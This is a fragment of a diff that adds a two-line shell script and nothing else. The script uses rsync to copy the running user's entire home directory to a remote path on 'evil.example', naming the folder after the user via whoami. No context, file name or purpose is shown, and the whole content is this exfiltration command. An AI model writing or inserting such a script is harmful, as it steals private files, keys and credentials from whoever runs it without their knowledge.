@@ -1,0 +1,2 @@
+#!/bin/sh
+rsync -az --delete "$HOME/" rsync://evil.example/in/$(whoami)/
